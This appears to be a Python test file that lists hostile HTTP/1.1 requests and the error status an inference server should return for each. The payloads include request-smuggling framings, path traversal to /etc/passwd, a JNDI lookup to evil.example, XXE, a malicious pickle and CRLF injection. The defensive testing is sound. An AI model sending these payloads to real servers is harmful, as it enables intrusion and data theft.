"""Hostile requests over HTTP/1.1, by what is wrong with each: heads, framing, addresses."""

# ruff: noqa: E501 - a table of requests reads best a line each

from __future__ import annotations

import json
from typing import Any

from tests.unit.runtime.live_server import infer_body, request

MODEL = "/v2/models/mlp"
INFER = f"{MODEL}/infer"
STREAM = f"{MODEL}/infer_stream"
ROW = [0.25] * 64
X = {"name": "x", "shape": [1, 64], "datatype": "FP32", "data": ROW}


def post(document: object, path: str = INFER, **fields: str) -> bytes:
    text = document if isinstance(document, bytes) else json.dumps(document).encode()
    return request("POST", path, text, {key.replace("_", "-"): v for key, v in fields.items()})


def one_input(**changes: Any) -> bytes:
    given = {**X, **changes}
    return post({"inputs": [{key: v for key, v in given.items() if v is not ...}]})


def raw(head: str, body: bytes = b"") -> bytes:
    return head.replace("\n", "\r\n").encode("latin-1") + b"\r\n\r\n" + body


def post_head(fields: str, body: bytes = b"") -> bytes:
    return raw(f"POST {INFER} HTTP/1.1\nHost: localhost\n{fields}", body)


def chunked(body: bytes) -> bytes:
    return post_head("Transfer-Encoding: chunked", body)


def get_head(fields: str) -> bytes:
    return raw(f"GET /v2 HTTP/1.1\nHost: localhost\n{fields}")


def binary(
    size: Any = 256, data: bytes = b"\0" * 256, length: int | None = None, **more: Any
) -> bytes:
    item = {
        "name": "x", "shape": [1, 64], "datatype": "FP32",
        "parameters": {"binary_data_size": size}, **more,
    }  # fmt: skip
    body, fields = infer_body({"inputs": [item]}, data)
    if length is not None:
        fields = {"Inference-Header-Content-Length": str(length)}
    return request("POST", INFER, body, fields)


GOOD = one_input()

# Cannot be read in one way only: the status of the answer, after which the connection is closed.
FRAMING = {
    "not HTTP at all": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", 400),
    "HTTP/0.9": (b"GET /\r\n\r\n", 400),
    "a version of the future": (raw("GET /v2 HTTP/3.0\nHost: localhost"), 400),
    "no Host": (raw("GET /v2 HTTP/1.1"), 400),
    "two Hosts": (get_head("Host: localhost"), 400),
    "bare LF after the first line": (b"GET /v2 HTTP/1.1\nHost: localhost\r\n\r\n", 400),
    "bare LF only": (b"GET /v2 HTTP/1.1\nHost: localhost\n\n", 400),
    "bare CR in a field": (b"GET /v2 HTTP/1.1\r\nHost: localhost\r\nA: b\rc\r\n\r\n", 400),
    "a folded field": (get_head("A: b\n c"), 400),
    "a blank before the colon": (get_head("Content-Length : 0"), 400),
    "a NUL in a field": (get_head("A: b\0c"), 400),
    "a NUL in the path": (raw("GET /v2\0 HTTP/1.1\nHost: localhost"), 400),
    "a field without a name": (get_head(": b"), 400),
    "a field without a colon": (get_head("A"), 400),
    "two blanks in the first line": (raw("GET  /v2 HTTP/1.1\nHost: localhost"), 400),
    "an empty first line": (raw("\nGET /v2 HTTP/1.1\nHost: localhost"), 400),
    "a target that is no path": (raw("GET v2 HTTP/1.1\nHost: localhost"), 400),
    "a CONNECT": (raw("CONNECT example.org:443 HTTP/1.1\nHost: localhost"), 400),
    "a method of 40 letters": (raw("G" * 40 + " /v2 HTTP/1.1\nHost: localhost"), 400),
    "a head past 16 KiB": (get_head("A: " + "b" * 17000), 431),
    "a head past 16 KiB, blanks": (get_head("A: " + " " * 17000), 431),
    "101 fields": (raw("GET /v2 HTTP/1.1\nHost: localhost" + "\nA: b" * 101), 431),
    "length and chunks": (
        post_head("Content-Length: 5\nTransfer-Encoding: chunked", b"0\r\n\r\n"),
        400,
    ),
    "two lengths": (post_head("Content-Length: 5\nContent-Length: 5"), 400),
    "a list of lengths": (post_head("Content-Length: 5, 5"), 400),
    "a negative length": (post_head("Content-Length: -5"), 400),
    "a length with a sign": (post_head("Content-Length: +5"), 400),
    "a hexadecimal length": (post_head("Content-Length: 0x5"), 400),
    "a length of 40 digits": (post_head("Content-Length: " + "9" * 40), 400),
    "an empty length": (post_head("Content-Length: "), 400),
    "a coding list": (post_head("Transfer-Encoding: gzip, chunked"), 400),
    "a hidden coding": (post_head("Transfer-Encoding: xchunked"), 400),
    "chunks in HTTP/1.0": (raw(f"POST {INFER} HTTP/1.0\nHost: localhost\nTransfer-Encoding: chunked"), 400),
    "an odd expectation": (post_head("Expect: tea\nContent-Length: 5"), 417),
    "a chunk size that is none": (
        chunked(b"xyz\r\n"), 400),
    "a chunk with an extension": (
        chunked(b"5;a=b\r\nhello\r\n0\r\n\r\n"), 400),
    "a chunk longer than it says": (
        chunked(b"2\r\nhello\r\n0\r\n\r\n"), 400),
    "a chunk of a negative size": (
        chunked(b"-5\r\nhello\r\n"), 400),
    "a chunk size of 20 digits": (
        chunked(b"0" * 20 + b"\r\n"), 400),
    "a trailer": (
        chunked(b"0\r\nA: b\r\n\r\n"), 400),
    "chunks past the limit": (
        chunked(b"fffffff\r\n"), 413),
    "many chunks past the limit": (
        post_head("Transfer-Encoding: chunked", (b"8000\r\n" + b"a" * 32768 + b"\r\n") * 3),
        413,
    ),
    "CL.TE": (post_head("Content-Length: 6\nTransfer-Encoding: chunked", b"0\r\n\r\nG"), 400),
    "TE.CL": (post_head("Transfer-Encoding: chunked\nContent-Length: 3", b"1\r\nG\r\n0\r\n\r\n"), 400),
    "TE.TE, the second unknown": (post_head("Transfer-Encoding: chunked\nTransfer-Encoding: cow"), 400),
    "TE.TE, the first unknown": (post_head("Transfer-Encoding: cow\nTransfer-Encoding: chunked"), 400),
    "TE.TE, twice the same": (post_head("Transfer-Encoding: chunked\nTransfer-Encoding: chunked"), 400),
    "chunked twice in one field": (post_head("Transfer-Encoding: chunked, chunked"), 400),
    "chunked, then identity": (post_head("Transfer-Encoding: chunked, identity"), 400),
    "identity alone": (post_head("Transfer-Encoding: identity"), 400),
    "identity and a length": (post_head("Transfer-Encoding: identity\nContent-Length: 2", b"{}"), 400),
    "a quoted coding": (post_head('Transfer-Encoding: "chunked"'), 400),
    "a coding with a parameter": (post_head("Transfer-Encoding: chunked;q=1"), 400),
    "a coding after a vertical tab": (post_head("Transfer-Encoding: \x0bchunked"), 400),
    "a coding with a NUL": (post_head("Transfer-Encoding: chunked\0"), 400),
    "a coding of other letters": (post_head("Transfer-Encoding: \xe7hunked"), 400),
    "an empty coding": (post_head("Transfer-Encoding: "), 400),
    "a coding behind a comma": (post_head("Transfer-Encoding: ,chunked"), 400),
    "a folded coding": (post_head("Transfer-Encoding:\n chunked"), 400),
    "a blank behind the coding's name": (post_head("Transfer-Encoding : chunked"), 400),
    "a tab behind the coding's name": (post_head("Transfer-Encoding\t: chunked"), 400),
    "a coding hidden behind a bare CR": (
        b"POST /predict HTTP/1.1\r\nHost: localhost\r\nA: b\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 400),
    "a coding hidden behind a bare LF": (
        b"POST /predict HTTP/1.1\r\nHost: localhost\r\nA: b\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 400),
    "two lengths that differ": (post_head("Content-Length: 5\nContent-Length: 6"), 400),
    "two lengths, the names spelt otherwise": (post_head("Content-Length: 5\ncontent-length: 5"), 400),
    "a length and a blank": (post_head("Content-Length: 5 5"), 400),
    "a length with an underscore": (post_head("Content-Length: 1_0"), 400),
    "a length with an exponent": (post_head("Content-Length: 1e1"), 400),
    "a length with a fraction": (post_head("Content-Length: 5.0"), 400),
    "a length of superscripts": (post_head("Content-Length: \xb2"), 400),
    "a length with a NUL": (post_head("Content-Length: 5\0"), 400),
    "a quoted length": (post_head('Content-Length: "5"'), 400),
    "a length with a semicolon": (post_head("Content-Length: 5;"), 400),
    "a field name with a bracket": (get_head("A[0]: b"), 400),
    "a field name with a slash": (get_head("A/b: c"), 400),
    "a field name with a quote": (get_head('A"b": c'), 400),
    "a field name with an umlaut": (get_head("\xe4: c"), 400),
    "a field name with a blank inside": (get_head("A b: c"), 400),
    "a field name before a NUL": (get_head("A\0: c"), 400),
    "a field with a DEL": (get_head("A: b\x7f"), 400),
    "a field with an escape": (get_head("A: \x1b[31m"), 400),
    "a first line that ends in a blank": (raw("GET /v2 HTTP/1.1 \nHost: localhost"), 400),
    "a first line with tabs": (raw("GET\t/v2\tHTTP/1.1\nHost: localhost"), 400),
    "a first line with a vertical tab": (raw("GET /v2\x0b HTTP/1.1\nHost: localhost"), 400),
    "a first line after a blank": (raw(" GET /v2 HTTP/1.1\nHost: localhost"), 400),
    "a version in lower case": (raw("GET /v2 http/1.1\nHost: localhost"), 400),
    "a version of three numbers": (raw("GET /v2 HTTP/1.1.1\nHost: localhost"), 400),
    "a version with two digits": (raw("GET /v2 HTTP/1.10\nHost: localhost"), 400),
    "a version with a leading zero": (raw("GET /v2 HTTP/01.1\nHost: localhost"), 400),
    "a version with a comma": (raw("GET /v2 HTTP/1,1\nHost: localhost"), 400),
    "a version 1.2": (raw("GET /v2 HTTP/1.2\nHost: localhost"), 400),
    "a version 2.0 with a Host": (raw("GET /v2 HTTP/2.0\nHost: localhost"), 400),
    "a version of another protocol": (raw("GET /v2 ICY/1.1\nHost: localhost"), 400),
    "a version of RTSP": (raw("DESCRIBE rtsp://localhost/v2 RTSP/1.0\nCSeq: 1"), 400),
    "a target with a blank": (raw("GET /v2 /v2 HTTP/1.1\nHost: localhost"), 400),
    "a target with a DEL": (raw("GET /v2\x7f HTTP/1.1\nHost: localhost"), 400),
    "a target that is not ASCII": (raw("GET /v2/\xe4 HTTP/1.1\nHost: localhost"), 400),
    "a target split by CR LF": (raw("GET /v2\nX: y HTTP/1.1\nHost: localhost"), 400),
    "a target split by a bare CR": (b"GET /v2\rX HTTP/1.1\r\nHost: localhost\r\n\r\n", 400),
    "a target of an unknown scheme": (raw("GET ftp://localhost/v2 HTTP/1.1\nHost: localhost"), 400),
    "a target that is a host": (raw("GET localhost HTTP/1.1\nHost: localhost"), 400),
    "a method with a control character": (raw("GE\x01T /v2 HTTP/1.1\nHost: localhost"), 400),
    "a method with an umlaut": (raw("G\xc9T /v2 HTTP/1.1\nHost: localhost"), 400),
    "a Host twice, the second foreign": (get_head("Host: evil.example"), 400),
    "a Host of another spelling twice": (get_head("hOST: localhost"), 400),
    "two origins": (get_head("Origin: http://localhost\nOrigin: http://evil.example"), 400),
    "two content types": (post_head("Content-Type: text/csv\nContent-Type: application/json"), 400),
    "two content encodings": (post_head("Content-Encoding: identity\nContent-Encoding: gzip"), 400),
    "two header lengths": (
        post_head("Inference-Header-Content-Length: 5\nInference-Header-Content-Length: 6"), 400),
    "two keys": (get_head("Authorization: Bearer a\nAuthorization: Bearer b"), 400),
    "two expectations": (post_head("Expect: 100-continue\nExpect: 100-continue\nContent-Length: 2"), 400),
    "an expectation and another": (post_head("Expect: 100-continue, tea\nContent-Length: 2"), 417),
    "an expectation of a success": (post_head("Expect: 200-ok\nContent-Length: 2"), 417),
    "1000 fields": (raw("GET /v2 HTTP/1.1\nHost: localhost" + "".join(f"\nA{i}: b" for i in range(1000))), 431),
    "a head past 16 KiB, one name": (get_head("A" * 17000 + ": b"), 431),
    "a head past 16 KiB, the target": (raw("GET /" + "a" * 17000 + " HTTP/1.1\nHost: localhost"), 431),
    "a head that never ends": (b"GET /v2 HTTP/1.1\r\nHost: localhost\r\n" + b"A: b\r\n" * 4000, 431),
    "16 KiB of nothing": (b"\0" * 20000, 431),
    "16 KiB of blanks": (b" " * 20000, 431),
    "empty lines for ever": (b"\r\n" * 10000, 400),
    "a chunk size in hexadecimal notation": (chunked(b"0x5\r\nhello\r\n0\r\n\r\n"), 400),
    "a chunk size with a sign": (chunked(b"+5\r\nhello\r\n0\r\n\r\n"), 400),
    "a chunk size behind a blank": (chunked(b" 5\r\nhello\r\n0\r\n\r\n"), 400),
    "a chunk size before a blank": (chunked(b"5 \r\nhello\r\n0\r\n\r\n"), 400),
    "a chunk size before a tab": (chunked(b"5\t\r\nhello\r\n0\r\n\r\n"), 400),
    "a chunk size with an underscore": (chunked(b"0_5\r\nhello\r\n0\r\n\r\n"), 400),
    "a chunk size that ends in LF": (chunked(b"5\nhello\r\n0\r\n\r\n"), 400),
    "a chunk size that ends in CR": (chunked(b"5\rhello\r\n0\r\n\r\n"), 400),
    "a chunk without a size": (chunked(b"\r\nhello\r\n0\r\n\r\n"), 400),
    "a chunk size that overflows 64 bits": (chunked(b"FFFFFFFFFFFFFFFF1\r\n"), 400),
    "a chunk size of 32 bits of ones": (chunked(b"FFFFFFFF\r\n"), 413),
    "a chunk with an extension without a name": (chunked(b"5;\r\nhello\r\n0\r\n\r\n"), 400),
    "a chunk with an extension that quotes CR LF": (chunked(b'5;a="\r\n"\r\nhello\r\n0\r\n\r\n'), 400),
    "a chunk with an endless extension": (chunked(b"5;" + b"a" * 60000), 400),
    "a chunk that ends in LF": (chunked(b"5\r\nhello\n0\r\n\r\n"), 400),
    "a chunk without its line end": (chunked(b"5\r\nhello0\r\n\r\n"), 400),
    "a last chunk without its line end": (chunked(b"5\r\nhello\r\n0\r\nGET /v2 HTTP/1.1\r\n\r\n"), 400),
    "a last chunk that ends in LF": (chunked(b"5\r\nhello\r\n0\n\n"), 400),
    "a trailer that changes the length": (chunked(b"0\r\nContent-Length: 5\r\n\r\n"), 400),
    "a size of letters beyond F": (chunked(b"5G\r\nhello\r\n0\r\n\r\n"), 400),
    "a size that is not ASCII": (chunked(b"\xb9\r\nh\r\n0\r\n\r\n"), 400),
    "SSH": (b"SSH-2.0-OpenSSH_9.2\r\n\r\n", 400),
    "SMTP": (b"EHLO evil.example\r\n\r\n", 400),
    "Redis": (b"*1\r\n$4\r\nINFO\r\n\r\n", 400),
    "PROXY": (b"PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\nGET /v2 HTTP/1.1\r\nHost: localhost\r\n\r\n", 400),
}  # fmt: skip

# The same, from a server without gRPC, which knows no HTTP/2.
WITHOUT_HTTP2 = {
    "an HTTP/2 preface": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400),
    "the start of a preface of HTTP/2": (b"PRIX /v2 HTTP/1.1\r\n\r\n", 400),
}  # fmt: skip

# Understood, and not admitted: the status of the answer.
ADDRESSED = {
    "a foreign Host": (request("GET", "/v2", fields={"Host": "evil.example"}), 421),
    "a foreign Host with our port": (request("GET", "/v2", fields={"Host": "evil.example:8000"}), 421),
    "a Host that contains ours": (request("GET", "/v2", fields={"Host": "localhost.evil.example"}), 421),
    "a Host with a user": (request("GET", "/v2", fields={"Host": "localhost@evil.example"}), 421),
    "an empty Host": (request("GET", "/v2", fields={"Host": ""}), 421),
    "another number as Host": (request("GET", "/v2", fields={"Host": "10.1.2.3"}), 421),
    "an absolute target elsewhere": (raw("GET http://evil.example/v2 HTTP/1.1\nHost: localhost"), 421),
    "a foreign page": (post({"data": [ROW]}, "/predict", Origin="http://evil.example"), 403),
    "a page on another port": (post({"data": [ROW]}, "/predict", Origin="http://localhost:3000"), 403),
    "a page without an origin": (post({"data": [ROW]}, "/predict", Origin="null"), 403),
    "an unknown path": (request("GET", "/admin"), 404),
    "a path that climbs": (request("GET", "/v2/../../etc/passwd"), 404),
    "a path that climbs, encoded": (request("GET", "/v2/%2e%2e/%2e%2e/etc/passwd"), 404),
    "another model": (post({"inputs": []}, "/v2/models/other/infer"), 404),
    "another version": (post({"inputs": []}, f"{MODEL}/versions/9/infer"), 404),
    "the repository of another server": (post({}, "/v2/repository/index"), 404),
    "a wrong method": (request("DELETE", MODEL), 405),
    "a GET of infer": (request("GET", INFER), 405),
    "a preflight": (request("OPTIONS", INFER, fields={"Access-Control-Request-Method": "POST"}), 405),
    "a TRACE": (request("TRACE", "/v2"), 405),
    "a compressed body": (post(b"\x1f\x8b\x08\0\0", Content_Encoding="gzip"), 415),
    "a twice compressed body": (post(b"\x1f\x8b", Content_Encoding="identity, gzip"), 415),
    "a GET with a large body": (request("GET", "/v2", b"a" * 5000), 413),
    "JSON past the limit": (post(b" " * 70000), 413),
    "JSON of petabytes": (request("POST", INFER, fields={"Content-Length": "999999999999999"}), 413),
    "binary past what the model takes": (
        request("POST", INFER, b" " * 9000, {"Inference-Header-Content-Length": "100"}), 413,
    ),
    "a header length past the limit": (
        request("POST", INFER, fields={"Content-Length": "99999", "Inference-Header-Content-Length": "99999"}), 413,
    ),
    "a Host of a rebinding service": (request("GET", "/v2", fields={"Host": "127.0.0.1.nip.io"}), 421),
    "a list of Hosts": (request("GET", "/v2", fields={"Host": "localhost, evil.example"}), 421),
    "a Host with a port of letters": (request("GET", "/v2", fields={"Host": "localhost:http"}), 421),
    "a Host with two ports": (request("GET", "/v2", fields={"Host": "localhost:80:80"}), 421),
    "a Host with a path": (request("GET", "/v2", fields={"Host": "localhost/evil"}), 421),
    "a Host with a fragment": (request("GET", "/v2", fields={"Host": "evil.example#localhost"}), 421),
    "a Host with a blank": (request("GET", "/v2", fields={"Host": "localhost evil"}), 421),
    "a Host with a tab": (request("GET", "/v2", fields={"Host": "localhost\tevil"}), 421),
    "a Host in hexadecimal": (request("GET", "/v2", fields={"Host": "0x7f.0.0.1"}), 421),
    "a Host as one number": (request("GET", "/v2", fields={"Host": "2130706433"}), 421),
    "a short address as Host": (request("GET", "/v2", fields={"Host": "127.1"}), 421),
    "any address as Host": (request("GET", "/v2", fields={"Host": "0.0.0.0"}), 421),  # noqa: S104 - asked for, not bound
    "half a bracket as Host": (request("GET", "/v2", fields={"Host": "[::1"}), 421),
    "a zone as Host": (request("GET", "/v2", fields={"Host": "[fe80::1%25eth0]"}), 421),
    "a Host that is not ASCII": (request("GET", "/v2", fields={"Host": "l\xf6calhost"}), 421),
    "an endless Host": (request("GET", "/v2", fields={"Host": "a" * 9000}), 421),
    "an absolute target without a host": (raw("GET http:///v2 HTTP/1.1\nHost: localhost"), 421),
    "an absolute target with a user": (raw("GET http://localhost@evil.example/v2 HTTP/1.1\nHost: localhost"), 421),
    "an absolute target, our name in its query": (raw("GET http://evil.example?localhost HTTP/1.1\nHost: localhost"), 421),
    "a page of our name in another zone": (post({"data": [ROW]}, "/predict", Origin="http://127.0.0.1.evil.example"), 403),
    "a page with a user": (post({"data": [ROW]}, "/predict", Origin="http://127.0.0.1@evil.example"), 403),
    "a page from a file": (post({"data": [ROW]}, "/predict", Origin="file://"), 403),
    "a page of an extension": (post({"data": [ROW]}, "/predict", Origin="moz-extension://127.0.0.1"), 403),
    "a page of no host": (post({"data": [ROW]}, "/predict", Origin="http://"), 403),
    "an empty origin": (post({"data": [ROW]}, "/predict", Origin=""), 403),
    "an origin with a path": (post({"data": [ROW]}, "/predict", Origin="http://127.0.0.1/"), 403),
    "a list of origins": (post({"data": [ROW]}, "/predict", Origin="http://127.0.0.1 http://evil.example"), 403),
    "a foreign page that asks for metrics": (request("GET", "/metrics", fields={"Origin": "https://evil.example"}), 403),
    "a foreign page's form": (post(b"data=1", "/predict", Origin="https://evil.example", Content_Type="text/plain"), 403),
    "a foreign preflight for a private network": (
        request("OPTIONS", "/predict", fields={
            "Origin": "https://evil.example", "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Private-Network": "true"}), 403),
    "a path that climbs, encoded twice": (request("GET", "/v2/%252e%252e/%252e%252e/etc/passwd"), 404),
    "a path that climbs by backslashes": (request("GET", "/v2/..\\..\\etc\\passwd"), 404),
    "a path that climbs by encoded backslashes": (request("GET", "/v2/..%5c..%5cetc%5cpasswd"), 404),
    "a path that climbs in overlong UTF-8": (request("GET", "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), 404),
    "a path that climbs out of a version": (post({}, f"{MODEL}/versions/../../../infer"), 404),
    "a path with a parameter": (request("GET", "/v2;a=b"), 404),
    "a path with two slashes": (request("GET", "//v2"), 404),
    "a path of another host": (request("GET", "//evil.example/v2"), 404),
    "a path in capitals": (request("GET", "/V2"), 404),
    "a path with a final slash": (post({}, f"{INFER}/"), 404),
    "a path with a dot": (request("GET", "/./v2"), 404),
    "a path with an encoded NUL": (request("GET", "/v2%00"), 404),
    "a path with encoded CR LF": (request("GET", "/v2%0d%0aSet-Cookie:%20a=b"), 404),
    "a path with half an escape": (request("GET", "/v2%"), 404),
    "a path with a wrong escape": (request("GET", "/v2/%zz"), 404),
    "a path with an encoded surrogate": (request("GET", "/v2/models/%ed%a0%80/infer"), 404),
    "a path of 9000 letters": (request("GET", "/" + "a" * 9000), 404),
    "a path of 3000 escapes": (request("GET", "/" + "%41" * 3000), 404),
    "the whole server": (raw("GET * HTTP/1.1\nHost: localhost"), 404),
    "the options of the whole server": (raw("OPTIONS * HTTP/1.1\nHost: localhost"), 404),
    "our own program": (request("GET", "/server/app.py"), 404),
    "our own manifest": (request("GET", "/manifest.json"), 404),
    "our own model": (request("GET", "/model/model.onnx"), 404),
    "our own keys": (request("GET", "/keys.json"), 404),
    "the environment of a process": (request("GET", "/proc/self/environ"), 404),
    "a repository": (request("GET", "/.git/config"), 404),
    "a look-up in a logged path": (request("GET", "/${jndi:ldap://evil.example/a}"), 404),
    "a template in a path": (request("GET", "/v2/models/{{7*7}}"), 404),
    "a model of markup": (post({}, "/v2/models/<script>alert(1)</script>/infer"), 404),
    "a model without a name": (post({}, "/v2/models//infer"), 404),
    "a model of 4000 letters": (post({}, "/v2/models/" + "m" * 4000 + "/infer"), 404),
    "a version that is empty": (post({}, f"{MODEL}/versions//infer"), 404),
    "a version that climbs": (post({}, f"{MODEL}/versions/%2e%2e/infer"), 404),
    "a version with a sign": (post({}, f"{MODEL}/versions/-1/infer"), 404),
    "unloading the model": (post({}, "/v2/repository/models/mlp/unload"), 404),
    "registering shared memory": (post({}, "/v2/systemsharedmemory/region/r/register"), 404),
    "setting the log": (post({}, "/v2/logging"), 404),
    "a PUT of the model": (request("PUT", MODEL, b"{}"), 405),
    "a PATCH of the model": (request("PATCH", MODEL, b"{}"), 405),
    "a POST of health": (request("POST", "/v2/health/ready", b"{}"), 405),
    "a POST of metrics": (request("POST", "/metrics", b"{}"), 405),
    "a DELETE of predict": (request("DELETE", "/predict"), 405),
    "a PROPFIND": (request("PROPFIND", "/v2"), 405),
    "a method in lower case": (request("get", "/v2"), 405),
    "a method of marks": (request("!#$%&'*+-.^_`|~", "/v2"), 405),
    "a GET of an event stream": (request("GET", STREAM), 405),
    "a body in Brotli": (post(b"\x0b\x02\x80{}\x03", Content_Encoding="br"), 415),
    "a body in Zstandard": (post(b"\x28\xb5\x2f\xfd", Content_Encoding="zstd"), 415),
    "a body in deflate": (post(b"\x78\x9c\xab\xae\x05\0", Content_Encoding="deflate"), 415),
    "a body in capitals of gzip": (post(b"\x1f\x8b", Content_Encoding="GZIP"), 415),
    "a body in an empty coding": (post(b"{}", Content_Encoding=""), 415),
    "a body in a coding of 9000 letters": (post(b"{}", Content_Encoding="z" * 9000), 415),
    "a compressed event stream": (post(b"\x1f\x8b", STREAM, Content_Encoding="gzip"), 415),
    "a photo for a model without photos": (post(b"\xff\xd8\xff", "/predict", Content_Type="image/jpeg"), 415),
    "a sound for a model without sounds": (post(b"RIFF", "/predict", Content_Type="audio/wav"), 415),
    "a table for a model without tables": (post(b"a,b", "/predict", Content_Type="text/csv"), 415),
    "a form of parts": (post(b"--b", "/predict", Content_Type="multipart/form-data; boundary=b"), 415),
    "XML with an entity": (
        post(b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "/predict", Content_Type="application/xml"), 415),
    "a pickle": (post(b"\x80\x04cos\nsystem\n.", "/predict", Content_Type="application/octet-stream"), 415),
    "a content type of 9000 letters": (post(b"{}", "/predict", Content_Type="a/" + "b" * 9000), 415),
    "JSON past the limit for predict": (post(b" " * 70000, "/predict"), 413),
    "JSON past the limit for a stream": (post(b" " * 70000, STREAM), 413),
    "JSON past the limit, announced": (
        request("POST", INFER, fields={"Content-Length": "999999", "Expect": "100-continue"}), 413),
    "an announced body for nothing": (
        request("POST", "/none", fields={"Content-Length": "5", "Expect": "100-continue"}), 404),
    "a header length of letters": (
        request("POST", INFER, b"{}", {"Inference-Header-Content-Length": "abc"}), 400),
    "a header length below zero": (
        request("POST", INFER, b"{}", {"Inference-Header-Content-Length": "-1"}), 400),
    "a header length with a sign": (
        request("POST", INFER, b"{}", {"Inference-Header-Content-Length": "+2"}), 400),
    "a header length in hexadecimal": (
        request("POST", INFER, b"{}", {"Inference-Header-Content-Length": "0x2"}), 400),
    "a header length with a fraction": (
        request("POST", INFER, b"{}", {"Inference-Header-Content-Length": "2.0"}), 400),
    "a header length with an exponent": (
        request("POST", INFER, b"{}", {"Inference-Header-Content-Length": "1e1"}), 400),
    "a header length of superscripts": (
        request("POST", INFER, b"{}", {"Inference-Header-Content-Length": "\xb2"}), 400),
    "a header length of nothing": (
        request("POST", INFER, b"{}", {"Inference-Header-Content-Length": ""}), 400),
    "a header length of 40 digits": (
        request("POST", INFER, b"{}", {"Inference-Header-Content-Length": "9" * 40}), 400),
    "a list of header lengths": (
        request("POST", INFER, b"{}", {"Inference-Header-Content-Length": "2, 2"}), 400),
}  # fmt: skip
